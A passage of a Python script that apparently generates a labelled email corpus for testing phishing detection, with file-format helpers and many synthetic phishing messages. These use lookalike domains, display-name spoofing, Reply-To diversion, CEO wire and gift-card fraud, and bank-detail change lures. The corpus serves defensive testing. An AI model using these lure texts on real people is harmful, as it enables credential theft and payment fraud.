    rootdir = dirrec(b"\0", 20, S, 2) + dirrec(b"\1", 20, S, 2) + dirrec(filename.upper().encode() + b";1", 21,
                                                                        len(data), 0)
    out = b"\0" * (16 * S) + bytes(pvd) + bytes(term) + lpt.ljust(S, b"\0") + mpt.ljust(S, b"\0")
    out += rootdir.ljust(S, b"\0") + data + b"\0" * (file_sectors * S - len(data))
    assert len(out) == total * S
    return out


def make_zipcrypto(entries, password: bytes) -> bytes:
    """A ZIP whose entries use traditional PKWARE (ZipCrypto) encryption, general-purpose flag
    bit 0 set.  The 12-byte encryption header is derived deterministically (not random)."""
    crctab = [0] * 256
    for i in range(256):
        c = i
        for _ in range(8):
            c = (c >> 1) ^ 0xEDB88320 if c & 1 else c >> 1
        crctab[i] = c

    def crc_byte(crc, b):
        return (crc >> 8) ^ crctab[(crc ^ b) & 0xFF]
    dostime = (9 << 11) | (0 << 5) | 0
    dosdate = ((2025 - 1980) << 9) | (3 << 5) | 1
    local, central, offset = b"", b"", 0
    for name, data in entries:
        k = [305419896, 591751049, 878082192]

        def upd(b):
            k[0] = crc_byte(k[0], b)
            k[1] = (k[1] + (k[0] & 0xFF)) & 0xFFFFFFFF
            k[1] = (k[1] * 134775813 + 1) & 0xFFFFFFFF
            k[2] = crc_byte(k[2], k[1] >> 24)
        for b in password:
            upd(b)
        crc = zlib.crc32(data) & 0xFFFFFFFF
        co = zlib.compressobj(9, zlib.DEFLATED, -15)
        comp = co.compress(data) + co.flush()
        plain = hashlib.sha256(name.encode()).digest()[:11] + bytes([crc >> 24]) + comp
        enc = bytearray()
        for p in plain:
            t = (k[2] | 2) & 0xFFFF
            enc.append(p ^ (((t * (t ^ 1)) >> 8) & 0xFF))
            upd(p)
        nm = name.encode()
        lh = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 1, 8, dostime, dosdate, crc, len(enc), len(data),
                         len(nm), 0) + nm
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 1, 8, dostime, dosdate, crc, len(enc),
                               len(data), len(nm), 0, 0, 0, 0, 0o644 << 16, offset) + nm
        local += lh + bytes(enc)
        offset += len(lh) + len(enc)
    eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), offset, 0)
    return local + central + eocd


def make_aes_zip(entries, password: bytes) -> bytes:
    """WinZip AES-256 encrypted ZIP via pyzipper, with its salt made deterministic."""
    import pyzipper
    import pyzipper.zipfile_aes as za

    class _FixedRandom:
        counter = 0

        def read(self, n):
            _FixedRandom.counter += 1
            return hashlib.sha256(b"corpus-salt-%d" % _FixedRandom.counter).digest()[:n]

    class _RandomModule:
        @staticmethod
        def new():
            return _FixedRandom()
    saved = za.Random
    za.Random = _RandomModule
    try:
        buf = io.BytesIO()
        with pyzipper.AESZipFile(buf, "w", compression=pyzipper.ZIP_DEFLATED, encryption=pyzipper.WZ_AES) as z:
            z.setpassword(password)
            for name, data in entries:
                zi = z.zipinfo_cls(name, date_time=ZIP_TIME)
                zi.compress_type = pyzipper.ZIP_DEFLATED
                z.writestr(zi, data)
        return buf.getvalue()
    finally:
        za.Random = saved


def _pil_bytes(img, fmt, **kw) -> bytes:
    buf = io.BytesIO()
    img.save(buf, format=fmt, **kw)
    return buf.getvalue()


def make_qr(url: str, fmt: str = "PNG") -> bytes:
    import qrcode
    qr = qrcode.QRCode(version=None, error_correction=qrcode.constants.ERROR_CORRECT_M, box_size=6, border=4)
    qr.add_data(url)
    qr.make(fit=True)
    img = qr.make_image(fill_color="black", back_color="white").get_image().convert("RGB")
    if fmt == "JPEG":
        return _pil_bytes(img, "JPEG", quality=92)
    if fmt == "GIF":
        return _pil_bytes(img.convert("P"), "GIF")
    return _pil_bytes(img, "PNG")


def make_photo(seed: int, size=(320, 220), fmt="PNG") -> bytes:
    """A small synthetic 'photo' (sky gradient, sun, hills) - no QR code, no text."""
    from PIL import Image, ImageDraw
    w, h = size
    img = Image.new("RGB", size)
    px = img.load()
    for y in range(h):
        for x in range(w):
            px[x, y] = (70 + y * 120 // h, 130 + y * 90 // h, 220 - y * 60 // h)
    d = ImageDraw.Draw(img)
    sx = 60 + (seed * 53) % (w - 120)
    d.ellipse([sx, 30, sx + 44, 74], fill=(255, 214, 92))
    d.polygon([(0, h), (0, h * 2 // 3), (w // 3, h // 2), (w * 2 // 3, h * 3 // 4), (w, h // 2 + seed % 20), (w, h)],
              fill=(46, 110 + seed % 40, 60))
    d.polygon([(0, h), (w // 4, h * 5 // 6), (w // 2, h * 7 // 8), (w, h * 4 // 5), (w, h)], fill=(30, 80, 40))
    if fmt == "JPEG":
        return _pil_bytes(img, "JPEG", quality=85)
    return _pil_bytes(img, "PNG", optimize=True)


def make_ics(uid, summary, start, end, organizer, attendees, location="", description="",
             method="REQUEST", seq=0) -> str:
    """iCalendar (RFC 5545) text; start/end like '20250310T150000Z'."""
    lines = ["BEGIN:VCALENDAR", "PRODID:-//Northwind Corpus//Calendar 1.0//EN", "VERSION:2.0",
             "CALSCALE:GREGORIAN", "METHOD:%s" % method, "BEGIN:VEVENT",
             "DTSTART:%s" % start, "DTEND:%s" % end, "DTSTAMP:20250303T090000Z",
             "ORGANIZER;CN=%s:mailto:%s" % organizer, "UID:%s" % uid]
    for cn, a in attendees:
        lines.append("ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN=%s:mailto:%s"
                     % (cn, a))
    lines += ["CREATED:20250303T090000Z", "DESCRIPTION:%s" % description.replace("\n", "\\n"),
              "LOCATION:%s" % location, "SEQUENCE:%d" % seq, "STATUS:CONFIRMED", "SUMMARY:%s" % summary,
              "TRANSP:OPAQUE", "BEGIN:VALARM", "ACTION:DISPLAY", "DESCRIPTION:Reminder", "TRIGGER:-PT15M",
              "END:VALARM", "END:VEVENT", "END:VCALENDAR"]
    out = []
    for l in lines:  # RFC 5545 folding at 75 octets
        b = l.encode("utf-8")
        while len(b) > 75:
            cut = 75
            while (b[cut] & 0xC0) == 0x80:
                cut -= 1
            out.append(b[:cut].decode())
            b = b" " + b[cut:]
        out.append(b.decode())
    return "\r\n".join(out) + "\r\n"


# ======================================================================================
# PHISHING
# ======================================================================================
def P(slug, note, auth, signals, **kw):
    return add("phish", slug, note, auth, signals=signals, **kw)


PP_FOOT = ("PayPal is committed to preventing fraudulent emails. Emails from PayPal will always contain your "
           "full name.<br>Copyright &copy; 1999-2025 PayPal, Inc. All rights reserved. PayPal is located at "
           "2211 N. First St., San Jose, CA 95131.")
MS_FOOT = ("Microsoft respects your privacy. To learn more, please read our Privacy Statement.<br>"
           "Microsoft Corporation, One Microsoft Way, Redmond, WA 98052")
DS_FOOT = ("<b>Do Not Share This Email</b><br>This email contains a secure link to DocuSign. Please do not share "
           "this email, link, or access code with others.<br>This message was sent to you by DocuSign "
           "Electronic Signature Service.")


def build_phish():
    # ---------------------------------------------------------------- 1. lookalike domains
    pp_idn = idna("p\u0430ypal.com")  # Cyrillic a
    P("paypal-homoglyph-idn",
      "From domain p<U+0430 Cyrillic a>ypal.com as punycode %s; account-limited lure linking to the same lookalike" % pp_idn,
      "dmarc=pass", [1, 2],
      frm=addr("PayPal", "service@" + pp_idn), to=addr(*BOB),
      subject="Your account access has been limited",
      mail_from="bounce-9921@" + pp_idn,
      entity=card_alt("PayPal", "#003087", "We've limited your account",
                      ["Hello Bob Chen,",
                       "We noticed unusual activity on your PayPal account and, as a precaution, we have temporarily "
                       "limited what you can do with it.",
                       "To restore full access, confirm your identity and review your recent transactions. If we do "
                       "not hear from you within 72 hours your account will be permanently limited.",
                       "Case ID: PP-D-48213-77"],
                      button=("Log in to resolve", "https://www.%s/signin/limitation?case=PP-D-48213-77" % pp_idn),
                      footer=PP_FOOT, pixel="https://www.%s/o/px.gif?c=48213" % pp_idn))

    ap_uni = "\u0430pple.com"
    P("apple-idn-smtputf8",
      "SMTPUTF8 message (RFC 6532 raw UTF-8 From header): domain <U+0430 Cyrillic a>pple.com; Apple ID locked lure",
      "dmarc=pass", [1, 2],
      frm='Apple <no_reply@%s>' % ap_uni, to=addr(*ALICE), subject="Your Apple ID has been locked for security reasons",
      mail_from="bounces@" + idna(ap_uni), eight_bit=True,
      entity=card_alt("Apple", "#1d1d1f", "Your Apple ID has been locked",
                      ["Dear Alice Martin,",
                       "Your Apple ID (alice@northwind.com) was used to sign in to iCloud via a web browser from an "
                       "unrecognised device. For your security we have locked your Apple ID.",
                       "To unlock it, verify your account information within 24 hours."],
                      button=("Unlock Apple ID", "https://appleid.%s/unlock?ref=alice" % idna(ap_uni)),
                      footer="Apple ID | Support | Privacy Policy<br>Copyright &copy; 2025 Apple Inc. One Apple Park Way, "
                             "Cupertino, CA 95014, United States."))

    P("microsoft-digit-swap",
      "From micros0ft.com (digit zero for o); password-expiry lure to the same lookalike",
      "dmarc=pass", [1, 2],
      frm=addr("Microsoft 365", "no-reply@micros0ft.com"), to=addr(*CAROL),
      subject="Password expiry notice for carol@northwind.com",
      entity=card_alt("Microsoft 365", "#0078d4", "Your password expires in 24 hours",
                      ["The password for your account carol@northwind.com is set to expire on 05/03/2025.",
                       "You can keep your current password to avoid losing access to email, Teams and OneDrive."],
                      button=("Keep current password",
                              "https://login.micros0ft.com/common/oauth2/keep?user=carol%40northwind.com"),
                      footer=MS_FOOT, pixel="https://login.micros0ft.com/t/open.gif?u=carol"))

    P("paypal-digit-l-to-1",
      "From paypa1.com (digit 1 for l), dmarc=none; payment-dispute lure",
      "dmarc=none", [1, 2],
      frm=addr("PayPal", "service@paypa1.com"), to=addr(*BOB),
      subject="Receipt for your payment to Crypto Exchange Ltd - $1,249.00 USD",
      entity=card_alt("PayPal", "#003087", "You sent a payment of $1,249.00 USD",
                      ["Hello Bob,",
                       "You sent a payment of $1,249.00 USD to Crypto Exchange Ltd (billing@cryptoexch-ltd.com).",
                       "Transaction ID: 4RT81934KX553120J",
                       "If you did not authorise this payment, cancel it now. Cancellations are only possible within "
                       "24 hours."],
                      button=("Cancel this payment", "https://www.paypa1.com/resolutioncenter/cancel?txn=4RT81934KX553120J"),
                      footer=PP_FOOT))

    P("rnicrosoft-onedrive-share",
      "From rnicrosoft.com (rn for m); fake OneDrive share of a salary file",
      "dmarc=pass", [1],
      frm=addr("OneDrive", "no-reply@rnicrosoft.com"), to=addr(*DAVE),
      subject="Bob Chen shared \"Q1 Salary Review.xlsx\" with you",
      entity=card_alt("OneDrive", "#0364b8", "Bob Chen shared a file with you",
                      ["Here's the document that Bob Chen shared with you.", "Q1 Salary Review.xlsx",
                       "This link will work for anyone at northwind.com."],
                      button=("Open", "https://onedrive.rnicrosoft.com/:x:/g/personal/bob_northwind/EaB7k2?e=Yt4kP1"),
                      footer=MS_FOOT))

    P("vvellsfargo-card-alert",
      "From vvellsfargo.com (vv for w); debit-card fraud alert lure",
      "dmarc=pass", [1, 2],
      frm=addr("Wells Fargo Online", "alerts@vvellsfargo.com"), to=addr(*BOB),
      subject="Unusual debit card activity - action required",
      entity=card_alt("WELLS FARGO", "#d71e28", "Did you make this purchase?",
                      ["We detected a purchase on your debit card ending in 4471 that looks unusual.",
                       "Merchant: ELECTRO-MART ONLINE   Amount: $1,872.40   Date: 03/04/2025",
                       "Your card has been temporarily restricted. Please verify your identity to restore it."],
                      button=("Verify activity", "https://connect.vvellsfargo.com/auth/verify?ref=DC4471"),
                      footer="Wells Fargo Bank, N.A. Member FDIC. Please do not reply to this automated email."))

    P("nortwind-omission-it-reset",
      "From nortwind.com (letter h omitted from the local domain northwind.com); mailbox password lure",
      "dmarc=pass", [1],
      frm=addr("Northwind IT Service Desk", "servicedesk@nortwind.com"), to=addr(*CAROL),
      subject="[Action Required] Your mailbox password expires today",
      entity=card_alt("Northwind IT", "#2b579a", "Mailbox password expiry",
                      ["Hi Carol,",
                       "Your northwind.com mailbox password expires today at 17:00. After that you will not be able to "
                       "send or receive email until the password is reset by the service desk.",
                       "Please take a moment to update it now using the self-service portal."],
                      button=("Update password", "https://portal.nortwind.com/owa/auth/reset.aspx?u=carol"),
                      footer="Northwind IT Service Desk &middot; ext. 4400"))

    P("northwlnd-payroll-banking",
      "From northwlnd.com (l for i); payroll direct-deposit confirmation lure",
      "dmarc=pass", [1],
      frm=addr("Northwind Payroll", "payroll@northwlnd.com"), to=addr(*DAVE),
      subject="Confirm your direct deposit details before the March payroll run",
      entity=card_alt("Northwind HR & Payroll", "#107c41", "Direct deposit verification",
                      ["Dear Dave,",
                       "As part of our move to the new payroll provider, all employees must confirm their direct "
                       "deposit information before 10 March. Employees who do not confirm may experience a delay "
                       "in their March salary payment."],
                      button=("Confirm banking details", "https://hr.northwlnd.com/selfservice/banking?emp=dokafor"),
                      footer="Northwind HR &middot; This is an automated message."))

    P("nrothwind-ceo-gift-cards",
      "From nrothwind.com (transposed letters) with the CEO's display name; gift-card request, no link",
      "dmarc=none", [1, 2],
      frm=addr("Alice Martin", "alice@nrothwind.com"), to=addr(*DAVE), subject="Are you at your desk?",
      entity=text("Dave,\n\nAre you at your desk? I need you to handle something for me quickly and discreetly.\n"
                  "I'm about to go into a board meeting and can't take calls. I need six Apple gift cards of\n"
                  "$200 each for a client appreciation gesture. Can you pick them up this morning? Scratch the\n"
                  "back, take pictures of the codes and reply to this email with them.\n\n"
                  "I'll reimburse you this afternoon.\n\nAlice\n\nSent from my iPhone\n"))

    remit_pdf = make_pdf(["Contoso Ltd - Remittance Details Update", "", "Effective immediately please remit all",
                          "payments to our new account:", "", "Bank: First Meridian Trust",
                          "Account name: Contoso Ltd", "IBAN: GB29 NWBK 6016 1331 9268 19", "SWIFT: FMTRGB2L", "",
                          "Accounts Receivable, Contoso Ltd"], "Remittance update")
    P("contosso-bank-change",
      "From contosso.com (doubled s) - lookalike of partner/correspondent contoso.com; bank-detail change with PDF",
      "dmarc=pass", [1, 10],
      frm=addr("Contoso Accounts Receivable", "ar@contosso.com"), to=addr(*BOB),
      subject="Updated remittance details - Contoso Ltd",
      entity=multipart("mixed", alt(
          "Dear Bob,\n\nPlease note that Contoso has changed banks following our annual audit. All open and\n"
          "future invoices should be paid to the account in the attached letter. The previous account\n"
          "will be closed on 14 March, so please update your vendor record before the next payment run.\n\n"
          "Kind regards,\nMegan Fisher\nAccounts Receivable | Contoso Ltd\n",
          html_page('<tr><td style="padding:24px;font-size:14px;line-height:21px;color:#222;">'
                    '<p>Dear Bob,</p><p>Please note that Contoso has changed banks following our annual audit. All '
                    'open and future invoices should be paid to the account in the attached letter. The previous '
                    'account will be closed on <b>14 March</b>, so please update your vendor record before the '
                    'next payment run.</p><p>Kind regards,<br>Megan Fisher<br><span style="color:#666">Accounts '
                    'Receivable | Contoso Ltd</span></p></td></tr>', title="Remittance")),
          attachment(remit_pdf, "application/pdf", "Contoso_Remittance_Update.pdf")))

    P("fabrikarn-sharepoint",
      "From fabrikarn.com (rn for m) - lookalike of partner fabrikam.com; shared-document lure",
      "dmarc=pass", [1, 10],
      frm=addr("Fabrikam SharePoint", "no-reply@fabrikarn.com"), to=addr(*ALICE),
      subject="Fabrikam has shared \"Contract Amendment 2025.pdf\" with you",
      entity=card_alt("SharePoint", "#036c70", "A document has been shared with you",
                      ["Jordan Blake (Fabrikam Legal) shared a file with you:", "Contract Amendment 2025.pdf",
                       "\"Alice - please review before Thursday's call.\""],
                      button=("Open document",
                              "https://fabrikarn.com/sites/legal/_layouts/15/view.aspx?id=CA-2025-114"),
                      footer="Microsoft respects your privacy. This email was generated by SharePoint for Fabrikam."))

    P("north-wind-hyphen-mfa",
      "From north-wind.com (hyphenated local domain); MFA re-registration lure",
      "dmarc=pass", [1],
      frm=addr("IT Helpdesk", "helpdesk@north-wind.com"), to=addrs(BOB, DAVE),
      subject="MFA re-registration required by Friday",
      entity=card_alt("Northwind IT", "#5c2d91", "Re-register your authenticator",
                      ["We are upgrading our multi-factor authentication platform. Every user must re-register "
                       "their authenticator app before Friday 7 March.",
                       "It takes less than two minutes. Accounts not re-registered will be locked on Monday."],
                      button=("Start re-registration", "https://mfa.north-wind.com/register?org=northwind"),
                      footer="Northwind IT Helpdesk"))

    P("paypal-secure-login-embedded",
      "From paypal-secure-login.com (brand embedded in a longer domain), dmarc=none; identity check lure",
      "dmarc=none", [1, 2],
      frm=addr("PayPal", "security@paypal-secure-login.com"), to=addr(*CAROL),
      subject="Action needed: confirm your identity",
      entity=card_alt("PayPal", "#003087", "Confirm your identity",
                      ["Hello,", "We need a little more information to keep your account secure. Please confirm "
                       "your identity to avoid interruption to your payments."],
                      button=("Confirm now", "https://paypal-secure-login.com/webapps/mpp/verify?id=cd7731"),
                      footer=PP_FOOT))

    P("microsoft-subdomain-embedded",
      "From microsoft.com.account-verify.top (brand as leading labels of an attacker domain); sign-in lure",
      "dmarc=pass", [1, 2],
      frm=addr("Microsoft account team", "account-security-noreply@microsoft.com.account-verify.top"),
      to=addr(*ALICE), subject="Microsoft account unusual sign-in activity",
      entity=card_alt("Microsoft account", "#2672ec", "Unusual sign-in activity",
                      ["We detected something unusual about a recent sign-in to the Microsoft account al*****@northwind.com.",
                       "Country/region: Nigeria   IP address: 198.51.100.201   Date: 04/03/2025 02:14 (GMT)",
                       "Please go to your recent activity page to let us know whether or not this was you."],
                      button=("Review recent activity",
                              "https://microsoft.com.account-verify.top/proofs/review?mkt=en-US"),
                      footer="Thanks, The Microsoft account team"))

    P("docusign-review-embedded",
      "From docusign-review.net (brand plus word) - fake DocuSign envelope",
      "dmarc=pass", [1, 2],
      frm=addr("DocuSign", "dse@docusign-review.net"), to=addr(*BOB),
      subject="Please DocuSign: Northwind_Services_Agreement_2025.pdf",
      entity=card_alt("DocuSign", "#1e4ca1", "Fabrikam Legal sent you a document to review and sign.",
                      ["Please review and sign: Northwind_Services_Agreement_2025.pdf",
                       "Jordan Blake\njblake@fabrikam.com"],
                      button=("REVIEW DOCUMENT",
                              "https://docusign-review.net/Signing/EmailStart.aspx?a=6f1e2d9c&etti=24&acct=8841"),
                      footer=DS_FOOT))

    li_idn = idna("linked\u0456n.com")  # Cyrillic/Ukrainian i
    P("linkedin-mixed-script",
      "From %s = linked<U+0456 Cyrillic i>n.com (mixed Latin/Cyrillic label); profile-views lure" % li_idn,
      "dmarc=pass", [1, 2],
      frm=addr("LinkedIn", "messages-noreply@" + li_idn), to=addr(*CAROL),
      subject="Carol, you appeared in 14 searches this week",
      entity=card_alt("LinkedIn", "#0a66c2", "You appeared in 14 searches this week",
                      ["See who's looking at your profile. Recruiters from 3 companies viewed your profile.",
                       "Sign in to see the full list."],
                      button=("See all searches", "https://www.%s/comm/me/search-appearances?trk=eml" % li_idn),
                      footer="You are receiving LinkedIn notification emails.<br>&copy; 2025 LinkedIn Corporation, "
                             "1000 West Maude Avenue, Sunnyvale, CA 94085."))

    nw_idn = idna("northw\u0456nd.com")
    P("northwind-mixed-script",
      "From %s = northw<U+0456 Cyrillic i>nd.com (local domain, mixed script), dmarc=none; benefits enrollment lure" % nw_idn,
      "dmarc=none", [1],
      frm=addr("Northwind Benefits", "benefits@" + nw_idn), to=addr(*CAROL),
      subject="Open enrollment closes Friday - confirm your 2025 elections",
      entity=card_alt("Northwind Benefits", "#00796b", "Open enrollment closes Friday",
                      ["Hi Carol,", "Our records show you have not yet confirmed your 2025 benefit elections. If "
                       "you take no action you will be enrolled in the basic plan with no dependants."],
                      button=("Review my elections", "https://benefits.%s/login?next=/enroll" % nw_idn),
                      footer="Northwind People Team"))

    P("envelope-only-lookalike",
      "From: ap@fabrikam.com (partner) but envelope MAIL FROM is the lookalike fabrikarn.com; dmarc=fail; bank change",
      "dmarc=fail", [1, 7],
      frm=addr("Fabrikam Accounts Payable", "ap@fabrikam.com"), to=addr(*BOB), mail_from="ap@fabrikarn.com",
      client="198.51.100.77",
      subject="RE: Outstanding invoices - new banking details",
      entity=text("Hi Bob,\n\nFollowing up on the outstanding invoices FAB-22817 and FAB-22831 (total EUR 48,210.00).\n"
                  "Our bank account has changed and the old account can no longer receive payments.\n"
                  "Please use the details below for this and all future payments:\n\n"
                  "  Beneficiary: Fabrikam Inc\n  Bank: Baltic Merchant Bank\n  IBAN: LT60 1010 0123 4567 8901\n"
                  "  SWIFT: BMBKLT22\n\nPlease confirm once the payment is scheduled.\n\n"
                  "Best regards,\nSandra Koch\nAccounts Payable, Fabrikam Inc\n"))

    P("envelope-embedded-dhl",
      "Envelope MAIL FROM on dhl-express-delivery.com (brand embedded), From a generic notifier named DHL Express",
      "dmarc=pass", [1, 2],
      frm=addr("DHL Express", "noreply@shipping-notify.xyz"), to=addr(*DAVE),
      mail_from="bounce@dhl-express-delivery.com",
      subject="DHL: Your shipment 7723419054 is on hold",
      entity=card_alt("DHL", "#d40511", "Your shipment is on hold",
                      ["Waybill: 7723419054", "Your shipment could not be delivered because the delivery address "
                       "is incomplete. Please confirm your address and pay the redelivery fee of EUR 2.99."],
                      button=("Schedule delivery", "https://shipping-notify.xyz/dhl/redeliver?awb=7723419054"),
                      footer="Deutsche Post DHL Group"))

    P("reply-to-only-lookalike",
      "Known correspondent initech.com (dmarc=pass, compromised account) with Reply-To on lookalike initech-payments.com",
      "dmarc=pass", [1, 3],
      frm=addr("Initech Accounts", "accounts@initech.com"), to=addr(*BOB),
      reply_to=addr("Initech Accounts", "accounts@initech-payments.com"),
      subject="Invoice INV-20931 overdue - payment details",
      entity=text("Hello Bob,\n\nOur records show invoice INV-20931 (USD 18,400.00) is now 21 days overdue.\n"
                  "Due to an ongoing audit, payments to our usual account are on hold. Please reply to this\n"
                  "email and our treasury team will send you the interim remittance details.\n\n"
                  "Thank you,\nPeter Gibbons\nAccounts | Initech\n"))

    P("link-only-lookalike-dropbox",
      "Sender domain not a lookalike; the link target is dr0pbox.com (digit zero) in a file-transfer lure",
      "dmarc=pass", [1, 4],
      frm=addr("File Transfer", "noreply@sendfiles-notify.com"), to=addr(*CAROL),
      subject="Dave Okafor sent you files (3 items, 18.2 MB)",
      entity=card_alt("File Transfer", "#0061fe", "Dave Okafor sent you files",
                      ["3 items, 18.2 MB in total. Expires in 7 days.", "Invoice_March.pdf, Contracts.zip, Notes.docx"],
                      button=("Download files", "https://www.dr0pbox.com/scl/fo/n8f2k1/h?dl=0&rlkey=q9x2"),
                      footer="Sent via File Transfer."))

    # ---------------------------------------------------------------- 2. display-name impersonation
    P("display-paypal-service-callback",
      "Display name 'PayPal Service' on random-mailer.xyz; callback (phone) scam receipt, no links",
      "dmarc=pass", [2],
      frm=addr("PayPal Service", "service@random-mailer.xyz"), to=addr(*DAVE),
      subject="Your order of Apple Services has been processed - $349.99",
      entity=card_alt("PayPal", "#003087", "Payment receipt",
                      ["Hello Dave,", "You authorised a payment of $349.99 USD to Apple Services.",
                       "Invoice ID: INV-PP-558214", "If you did not make this purchase, call our billing "
                       "department immediately at +1 (888) 555-0147 to cancel and receive a refund within 24 hours."],
                      footer="PayPal Billing Department"))

    P("display-contains-address",
      "Display name is an address 'security@microsoft.com' over alerts@mail-notice.top; unlock lure",
      "dmarc=pass", [2],
      frm=addr("security@microsoft.com", "alerts@mail-notice.top"), to=addr(*ALICE),
      subject="Sign-in blocked on your account",
      entity=card_alt("Microsoft", "#0078d4", "We blocked a sign-in attempt",
                      ["Someone tried to sign in to alice@northwind.com from an unknown location. We blocked it.",
                       "If this was you, unlock your account to continue."],
                      button=("Unlock account", "https://mail-notice.top/ms/unlock?u=alice%40northwind.com"),
                      footer=MS_FOOT))

    P("ceo-fraud-gmail",
      "CEO fraud: display name 'Alice Martin' (local CEO) on a gmail.com address, urgent wire request to the CFO",
      "dmarc=pass", [2],
      frm=addr("Alice Martin", "alice.martin.ceo@gmail.com"), to=addr(*BOB), subject="Urgent - confidential",
      entity=text("Bob,\n\nI need you to process a wire transfer today for an acquisition we are finalising. This is\n"
                  "strictly confidential until the announcement - please don't discuss it with anyone else in\n"
                  "the office. The amount is USD 86,450.00. I'll send the beneficiary details as soon as you\n"
                  "confirm you can do it before the cut-off.\n\nI'm in meetings all day so email only.\n\n"
                  "Alice\n\nSent from my iPhone\n"))

    P("ceo-confusable-aiice",
      "Confusable display name 'AIice Martin' (capital I for l) from outlook.com to the CFO; vendor payment",
      "dmarc=pass", [2],
      frm=addr("AIice Martin", "amartin.northwind@outlook.com"), to=addr(*BOB),
      subject="Quick favour - vendor payment today",
      entity=alt("Hi Bob,\n\nCan you push a same-day payment to a new vendor for me? It's for the consulting\n"
                 "engagement we discussed. EUR 24,900 - invoice attached to follow. I'm travelling and on my\n"
                 "personal account as my laptop is being re-imaged.\n\nThanks,\nAlice\n",
                 '<div dir="ltr"><div>Hi Bob,</div><div><br></div><div>Can you push a same-day payment to a new '
                 'vendor for me? It\'s for the consulting engagement we discussed. EUR 24,900 - invoice attached to '
                 'follow. I\'m travelling and on my personal account as my laptop is being re-imaged.</div><div><br>'
                 '</div><div>Thanks,</div><div>Alice</div></div>\n'))

    P("payroll-diversion-yahoo",
      "Display name of employee 'Dave Okafor' on yahoo.com asking HR to change payroll bank account",
      "dmarc=pass", [2],
      frm=addr("Dave Okafor", "dave.okafor.home@yahoo.com"), to=addr(*CAROL),
      subject="Change of direct deposit",
      entity=text("Hi Carol,\n\nI recently switched banks and would like my salary paid into the new account from\n"
                  "this month. What information do you need from me? Can we get this done before the\n"
                  "next payroll?\n\nThanks,\nDave\n"))

    P("display-amazon-customer-service",
      "Display name 'Amazon.com Customer Service' on tracking-center.top; payment-update lure",
      "dmarc=pass", [2],
      frm=addr("Amazon.com Customer Service", "no-reply@tracking-center.top"), to=addr(*DAVE),
      subject="Your Amazon order #114-3941689-8772232 could not be shipped",
      entity=card_alt("amazon", "#232f3e", "There was a problem with your order",
                      ["Hello,", "We were unable to charge your payment method for order #114-3941689-8772232.",
                       "Please update your payment information within 48 hours, otherwise your order will be "
                       "cancelled and your account placed on hold."],
                      button=("Update payment method", "https://tracking-center.top/amz/wallet/update?o=1143941689"),
                      footer="&copy; 2025 Amazon.com, Inc. or its affiliates. Amazon.com, 410 Terry Avenue N., Seattle, WA 98109-5210."))

    P("display-netflix-billing",
      "Display name 'Netflix' on account-billing-update.click, dmarc=none; payment-declined lure",
      "dmarc=none", [2],
      frm=addr("Netflix", "info@account-billing-update.click"), to=addr(*CAROL),
      subject="Your membership is on hold - update your payment",
      entity=card_alt("NETFLIX", "#e50914", "Your payment was declined",
                      ["Hi Carol,", "We're having some trouble with your current billing information. We'll try "
                       "again, but in the meantime you may want to update your payment details."],
                      button=("Update account", "https://account-billing-update.click/nf/billing?id=7718"),
                      footer="Questions? Call 1-866-555-0199"))

    # ---------------------------------------------------------------- 3. Reply-To diversion
    P("reply-to-gmail-globex-spoof",
      "From a known correspondent globex.com with dmarc=fail, Reply-To a gmail.com address; payment instructions",
      "dmarc=fail", [3, 7],
      frm=addr("Linda Park", "l.park@globex.com"), to=addr(*BOB),
      reply_to=addr("Linda Park", "linda.park.globex@gmail.com"), client="198.51.100.90",
      subject="Revised invoice & payment instructions",
      entity=alt("Hi Bob,\n\nAttached is the revised invoice for the Q1 logistics services. Please note our\n"
                 "payment instructions have changed - reply to me directly and I will send the updated bank\n"
                 "letter signed by our CFO.\n\nRegards,\nLinda Park\nFinance Manager, Globex\n",
                 '<p>Hi Bob,</p><p>Attached is the revised invoice for the Q1 logistics services. Please note our '
                 'payment instructions have changed - reply to me directly and I will send the updated bank letter '
                 'signed by our CFO.</p><p>Regards,<br>Linda Park<br>Finance Manager, Globex</p>\n'))

    P("reply-to-outlook-umbrella",
      "From umbrella-corp.com (correspondent, dmarc=none) with Reply-To on outlook.com; RFQ with pricing/bank request",
      "dmarc=none", [3],
      frm=addr("Umbrella Corp Procurement", "procurement@umbrella-corp.com"), to=addr(*ALICE),
      reply_to="umbrella.procurement@outlook.com",
      subject="Request for quotation RFQ-7731",
      entity=text("Dear Supplier,\n\nUmbrella Corporation invites you to quote for the items listed in RFQ-7731.\n"
                  "To be registered as a supplier, please reply with your company registration, bank details\n"
                  "and a signed W-9 by 12 March.\n\nProcurement Department\nUmbrella Corporation\n"))

    P("reply-to-yahoo-contoso-spoof",
      "From hr@contoso.com (protected partner) with dmarc=fail and Reply-To on yahoo.com; W-9/bank info request",
      "dmarc=fail", [3, 7],
      frm=addr("Contoso Human Resources", "hr@contoso.com"), to=addr(*BOB),
      reply_to="hr.contoso.dept@yahoo.com", client="198.51.100.91",
      subject="Vendor file update - W-9 and banking confirmation",
      entity=text("Hello,\n\nWe are updating our vendor master file. Please reply with a completed W-9 and a\n"
                  "voided cheque or bank letter for the account you wish to receive payments into.\n\n"
                  "Thank you,\nContoso HR & Vendor Management\n"))

    P("reply-to-mailru-invoice",
      "Unknown company lakeside-logistics.biz (dmarc=none) with Reply-To on mail.ru; overdue invoice pressure",
      "dmarc=none", [3],
      frm=addr("Lakeside Logistics Accounts", "accounts@lakeside-logistics.biz"), to=addr(*BOB),
      reply_to="lakeside.finance@mail.ru",
      subject="FINAL NOTICE: invoice LL-55102 overdue",
      entity=text("Dear Customer,\n\nDespite previous reminders, invoice LL-55102 for USD 7,340.00 remains unpaid.\n"
                  "To avoid collection proceedings please settle today. Reply to this email for our updated\n"
                  "bank details.\n\nLakeside Logistics - Accounts\n"))

    P("reply-to-gmail-local-spoof",
      "From alice@northwind.com (local CEO) with dmarc=fail and Reply-To on gmail.com; wire request to the CFO",
      "dmarc=fail", [2, 3, 7],
      frm=addr(*ALICE), to=addr(*BOB), reply_to=addr("Alice Martin", "alice.martin.exec@gmail.com"),
      client="198.51.100.92", subject="Wire today",
      entity=text("Bob,\n\nPlease prepare a wire of USD 112,000 for the Sterling acquisition escrow. I'll send\n"
                  "the beneficiary details shortly. Keep this between us until the deal is announced.\n"
